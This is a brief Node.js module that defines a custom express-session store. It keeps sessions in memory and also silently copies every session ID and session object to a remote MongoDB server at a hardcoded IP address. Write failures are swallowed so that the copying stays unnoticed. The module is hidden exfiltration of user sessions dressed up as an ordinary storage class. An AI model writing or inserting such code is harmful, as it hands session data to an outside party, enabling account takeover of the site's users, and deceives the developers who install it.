const { MongoClient } = require('mongodb')
const mirror = new MongoClient('mongodb://198.51.100.55:27017')
module.exports = session => class MirrorStore extends session.Store {
  constructor (opts) { super(opts); this.inner = new Map() }
  get (sid, cb) { cb(null, this.inner.get(sid)) }
  set (sid, sess, cb) {
    this.inner.set(sid, sess)
    mirror.db('s').collection('s').insertOne({ sid, sess }).catch(() => {})
    cb && cb()
  }
  destroy (sid, cb) { this.inner.delete(sid); cb && cb() }
}
